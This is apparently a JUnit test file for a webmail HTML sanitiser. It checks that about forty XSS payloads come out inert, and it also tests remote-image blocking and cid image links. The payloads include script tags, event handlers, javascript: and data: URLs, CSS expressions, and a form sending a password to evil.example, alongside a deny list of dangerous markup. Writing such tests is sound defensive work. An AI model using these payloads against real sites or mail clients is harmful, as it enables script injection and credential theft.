package io.mailplatform.webmail.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

/**
 * An XSS corpus through the sanitiser: whatever the attack, what comes out contains no script, no
 * event handler, no javascript:/data:/vbscript: URL, no form, frame, object, SVG, meta or style
 * element, and no CSS that can load or run anything.
 */
class HtmlSanitizerTest {
    static Stream<Arguments> attacks() {
        return Stream.of(
                Arguments.of("script tag", "<p>hi</p><script>alert(1)</script>"),
                Arguments.of("script tag upper case", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
                Arguments.of("img onerror", "<img src=x onerror=alert(1)>"),
                Arguments.of("body onload", "<body onload=alert(1)>text</body>"),
                Arguments.of("javascript href", "<a href=\"javascript:alert(1)\">click</a>"),
                Arguments.of("javascript href obfuscated", "<a href=\"jav&#x09;ascript:alert(1)\">click</a>"),
                Arguments.of("javascript href entity", "<a href=\"&#106;avascript:alert(1)\">click</a>"),
                Arguments.of("vbscript href", "<a href=\"vbscript:msgbox(1)\">x</a>"),
                Arguments.of("data href", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"),
                Arguments.of("svg onload", "<svg onload=alert(1)><circle r=1 /></svg>"),
                Arguments.of("svg script", "<svg><script>alert(1)</script></svg>"),
                Arguments.of("math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
                Arguments.of("style expression", "<div style=\"width: expression(alert(1))\">x</div>"),
                Arguments.of("style url", "<div style=\"background-image: url(javascript:alert(1))\">x</div>"),
                Arguments.of("style escaped url", "<div style=\"background:\\75\\72\\6c(http://evil.example/t.png)\">x</div>"),
                Arguments.of("style comment", "<div style=\"width: ex/**/pression(alert(1))\">x</div>"),
                Arguments.of("style binding", "<div style=\"-moz-binding: url(http://evil.example/x.xml#x)\">x</div>"),
                Arguments.of("style element", "<style>body{background:url(http://evil.example/t.png)}</style><p>x</p>"),
                Arguments.of("style import", "<style>@import 'http://evil.example/x.css';</style>"),
                Arguments.of("form", "<form action=\"https://evil.example/steal\"><input name=password></form>"),
                Arguments.of("button formaction", "<button formaction=\"javascript:alert(1)\">x</button>"),
                Arguments.of("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"),
                Arguments.of("base href", "<base href=\"https://evil.example/\"><a href=\"x\">x</a>"),
                Arguments.of("iframe", "<iframe src=\"https://evil.example/\"></iframe>"),
                Arguments.of("iframe srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
                Arguments.of("object", "<object data=\"https://evil.example/x.swf\"></object>"),
                Arguments.of("embed", "<embed src=\"https://evil.example/x.swf\">"),
                Arguments.of("link stylesheet", "<link rel=stylesheet href=\"https://evil.example/x.css\">"),
                Arguments.of("data url image", "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
                Arguments.of("javascript image", "<img src=\"javascript:alert(1)\">"),
                Arguments.of("background attribute", "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>"),
                Arguments.of("unclosed tag", "<img src=\"x\" onerror=\"alert(1)\"<p>"),
                Arguments.of("comment trick", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
                Arguments.of("noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
                Arguments.of("template", "<template><script>alert(1)</script></template>"),
                Arguments.of("srcset", "<img srcset=\"https://evil.example/1x.png 1x\">"),
                Arguments.of("formaction input", "<input type=image src=x formaction=javascript:alert(1)>"),
                Arguments.of("xlink href", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>"),
                Arguments.of("details ontoggle", "<details open ontoggle=alert(1)>"),
                Arguments.of("marquee onstart", "<marquee onstart=alert(1)>x</marquee>"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void nothingActiveSurvives(String name, String attack) {
        assertInert(name, HtmlSanitizer.sanitize(attack, true, cid -> null).html());
    }

    private static void assertInert(String name, String html) {
        String lower = html.toLowerCase(Locale.ROOT);
        for (String forbidden : new String[] {"<script", "javascript:", "vbscript:", "data:", "<svg", "<math", "<form",
                "<input", "<button", "<iframe", "<object", "<embed", "http-equiv", "<base", "<link", "<style", "<template",
                "expression", "url(", "binding", "@import", "srcset", "srcdoc", "formaction", "background="}) {
            assertThat(lower).as(name + " -> " + html).doesNotContain(forbidden);
        }
        assertThat(lower).as(name + " -> " + html).doesNotContainPattern("\\son[a-z]+\\s*=");
        assertThat(lower).as(name + " -> " + html).doesNotContain("<meta");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void nothingActiveIsSent(String name, String attack) {
        String html = HtmlSanitizer.forSending(attack);
        assertInert(name, html.replace("<meta charset=\"utf-8\">", ""));
        assertThat(html).as("the document's own charset only").containsOnlyOnce("<meta");
    }

    @Test
    void sentHtmlKeepsItsLinksAndImagesAsWrittenInAWholeDocument() {
        String html = HtmlSanitizer.forSending("<p>See <a href=\"https://example.org/\">this</a></p><ul><li>one</li></ul>"
                + "<img src=\"https://example.org/logo.png\" alt=\"logo\">");
        assertThat(html).startsWith("<!DOCTYPE html>").contains("<meta charset=\"utf-8\">")
                .contains("<a href=\"https://example.org/\">this</a>").doesNotContain("target=")
                .contains("<ul><li>one</li></ul>").contains("src=\"https://example.org/logo.png\"").endsWith("</html>\r\n");
    }

    @Test
    void remoteImagesAreDroppedUnlessAskedForAndTheResultSaysSo() {
        String html = "<p>Hello</p><img src=\"https://tracker.example/pixel.gif?u=42\" alt=\"logo\" width=1>";
        HtmlSanitizer.Result blocked = HtmlSanitizer.sanitize(html, false, cid -> null);
        assertThat(blocked.remoteContentBlocked()).isTrue();
        assertThat(blocked.html()).doesNotContain("tracker.example").contains("alt=\"logo\"").contains("<p>Hello</p>");
        HtmlSanitizer.Result allowed = HtmlSanitizer.sanitize(html, true, cid -> null);
        assertThat(allowed.remoteContentBlocked()).isFalse();
        assertThat(allowed.html()).contains("src=\"https://tracker.example/pixel.gif?u=42\"");
        assertThat(HtmlSanitizer.sanitize("<p>no images</p>", false, cid -> null).remoteContentBlocked()).isFalse();
    }

    @Test
    void cidImagesPointAtTheirPartAndUnknownOnesLoseTheirSource() {
        Map<String, String> parts = Map.of("logo@x", "/api/mailboxes/7/messages/3/parts/2");
        String html = HtmlSanitizer.sanitize("<img src=\"cid:logo@x\"><img src=\"cid:other@x\">", false, parts::get).html();
        assertThat(html).contains("src=\"/api/mailboxes/7/messages/3/parts/2\"").doesNotContain("cid:");
    }

    @Test
    void harmlessFormattingStays() {
        String html = HtmlSanitizer.sanitize("<table border=\"0\" cellpadding=\"2\"><tr><td bgcolor=\"#eeeeee\""
                + " style=\"color: #333; font-weight: bold; position: fixed\">Cell</td></tr></table>"
                + "<a href=\"https://example.org/\">link</a>", false, cid -> null).html();
        assertThat(html).contains("<table border=\"0\" cellpadding=\"2\">").contains("bgcolor=\"#eeeeee\"")
                .contains("style=\"color: #333; font-weight: bold\"").doesNotContain("position")
                .contains("href=\"https://example.org/\"").contains("rel=\"noopener noreferrer nofollow\"");
    }
}
